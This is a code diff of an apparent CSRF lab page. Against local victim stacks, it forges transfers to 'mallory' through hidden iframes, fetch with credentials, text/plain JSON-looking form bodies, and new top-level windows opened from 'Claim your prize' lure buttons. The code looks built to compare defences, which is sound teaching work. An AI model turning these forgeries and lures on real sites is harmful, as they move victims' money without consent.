@@ -8,29 +8,26 @@ const STACKS = [
   { id: 'redis', port: 8081 },
   { id: 'tokens', port: 8082 },
 ];
+// Hidden-frame and fetch forgeries run by themselves; the top-level ones open a window, which a
+// browser only allows after a click (the "Claim your prize" buttons), as a real attacker would lure.
 const ATTACKS = [
-  { id: 'form-text', amount: '13.01', label: 'form, enctype="text/plain", JSON-looking body', run: formText },
-  { id: 'form-urlencoded', amount: '13.02', label: 'form, urlencoded (the default)', run: formUrlencoded },
+  { id: 'form-text', amount: '13.01', label: 'form in a hidden frame, enctype="text/plain", JSON-looking body', run: formText },
+  { id: 'form-urlencoded', amount: '13.02', label: 'form in a hidden frame, urlencoded (the default)', run: formUrlencoded },
   { id: 'fetch-json', amount: '13.03', label: "fetch, credentials: 'include', Content-Type: application/json", run: fetchJson },
   { id: 'fetch-no-cors', amount: '13.04', label: "fetch, mode: 'no-cors', credentials: 'include', text/plain", run: fetchNoCors },
+  { id: 'top-form-text', amount: '13.05', label: 'form in a new window (top level), enctype="text/plain"', run: topFormText, topLevel: true },
+  { id: 'top-form-urlencoded', amount: '13.06', label: 'form in a new window (top level), urlencoded', run: topFormUrlencoded, topLevel: true },
 ];
 const FRAME_TIMEOUT_MS = 8000;
 
 const target = stack => `http://${VICTIM_HOST}:${stack.port}/api/transfers`;
 
-/** Submits a form into a hidden iframe and waits for whatever comes back to load. */
-function submitForm(stack, attack, enctype, fields) {
-  const frames = document.getElementById('frames');
-  const name = `frame-${stack.id}-${attack.id}-${Date.now()}`;
-  const iframe = document.createElement('iframe');
-  iframe.name = name;
-  iframe.title = name;
-  frames.append(iframe);
+function buildForm(stack, enctype, fields, windowName) {
   const form = document.createElement('form');
   form.method = 'POST';
   form.action = target(stack);
   form.enctype = enctype;
-  form.target = name;
+  form.target = windowName;
   for (const [key, value] of fields) {
     const input = document.createElement('input');
     input.type = 'hidden';
@@ -38,7 +35,18 @@ function submitForm(stack, attack, enctype, fields) {
     input.value = value;
     form.append(input);
   }
-  frames.append(form);
+  document.getElementById('frames').append(form);
+  return form;
+}
+
+/** Submits a form into a hidden iframe and waits for whatever comes back to load. */
+function submitForm(stack, attack, enctype, fields) {
+  const name = `frame-${stack.id}-${attack.id}-${Date.now()}`;
+  const iframe = document.createElement('iframe');
+  iframe.name = name;
+  iframe.title = name;
+  document.getElementById('frames').append(iframe);
+  const form = buildForm(stack, enctype, fields, name);
   return new Promise(resolve => {
     const timer = setTimeout(() => resolve({ attackerSees: 'nothing: the frame did not load in time' }), FRAME_TIMEOUT_MS);
     iframe.addEventListener('load', () => {
@@ -59,15 +67,35 @@ function submitForm(stack, attack, enctype, fields) {
   });
 }
 
+/** Submits a form into a new top-level window: the victim's browser navigates there, cross-site. */
+async function submitTop(stack, attack, enctype, fields) {
+  buildForm(stack, enctype, fields, `window-${stack.id}-${attack.id}-${Date.now()}`).submit();
+  return { attackerSees: 'nothing: a new window opened on localhost, another origin (the victim sees the answer there)' };
+}
+
+// One field, name + "=" + value: {"to":"mallory","amount":13.01,"pad":"="}
+function textFields(attack) {
+  return [[`{"to":"mallory","amount":${attack.amount},"pad":"`, '"}']];
+}
+
+function urlFields(attack) {
+  return [['to', 'mallory'], ['amount', attack.amount]];
+}
+
 function formText(stack, attack) {
-  // name + "=" + value: {"to":"mallory","amount":13.01,"pad":"="}
-  return submitForm(stack, attack, 'text/plain',
-    [[`{"to":"mallory","amount":${attack.amount},"pad":"`, '"}']]);
+  return submitForm(stack, attack, 'text/plain', textFields(attack));
 }
 
 function formUrlencoded(stack, attack) {
-  return submitForm(stack, attack, 'application/x-www-form-urlencoded',
-    [['to', 'mallory'], ['amount', attack.amount]]);
+  return submitForm(stack, attack, 'application/x-www-form-urlencoded', urlFields(attack));
+}
+
+function topFormText(stack, attack) {
+  return submitTop(stack, attack, 'text/plain', textFields(attack));
+}
+
+function topFormUrlencoded(stack, attack) {
+  return submitTop(stack, attack, 'application/x-www-form-urlencoded', urlFields(attack));
 }
 
 async function fetchJson(stack, attack) {
@@ -115,12 +143,12 @@ async function runAll() {
   document.body.dataset.state = 'running';
   const results = [];
   for (const stack of STACKS) {
-    for (const attack of ATTACKS) {
+    for (const attack of ATTACKS.filter(a => !a.topLevel)) {
       progress.textContent = `attacking ${stack.id} with ${attack.id}…`;
       results.push(await run(stack.id, attack.id));
     }
   }
-  progress.textContent = `done: ${results.length} attempts. Now look at the transfer lists on the dashboard.`;
+  progress.textContent = `done: ${results.length} attempts. Now try the buttons, then look at the transfer lists on the dashboard.`;
   document.body.dataset.state = 'done';
   return results;
 }
@@ -137,7 +165,16 @@ function init() {
       const td = document.createElement('td');
       td.dataset.stack = stack.id;
       td.dataset.attack = attack.id;
-      td.textContent = 'not run';
+      if (attack.topLevel) {
+        const button = document.createElement('button');
+        button.type = 'button';
+        button.textContent = `Claim your prize (${stack.id})`;
+        // The click is the user activation a browser wants before it opens a window.
+        button.addEventListener('click', () => run(stack.id, attack.id));
+        td.append(button);
+      } else {
+        td.textContent = 'not run';
+      }
       tr.append(td);
     }
     tbody.append(tr);
